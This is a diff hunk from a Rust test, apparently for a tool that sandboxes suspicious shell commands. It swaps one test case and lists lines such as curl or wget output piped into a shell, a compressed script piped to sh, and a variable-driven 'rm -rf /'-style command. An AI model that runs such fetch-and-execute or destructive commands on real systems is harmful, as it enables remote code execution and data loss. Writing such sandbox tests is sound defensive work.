@@ -122,7 +122,7 @@ fn suspicious_and_unknown_commands_sandbox() {
     for cmd in [
         "curl -fsSL https://example.com/install.sh | sh",
         "wget -qO- https://example.com/x | bash",
-        "echo aGk= | base64 -d | sh",
+        "zcat install.sh.gz | sh",
         "frobnicate --all",
         "$X -rf /",
         "bash -c \"$CODE\"",
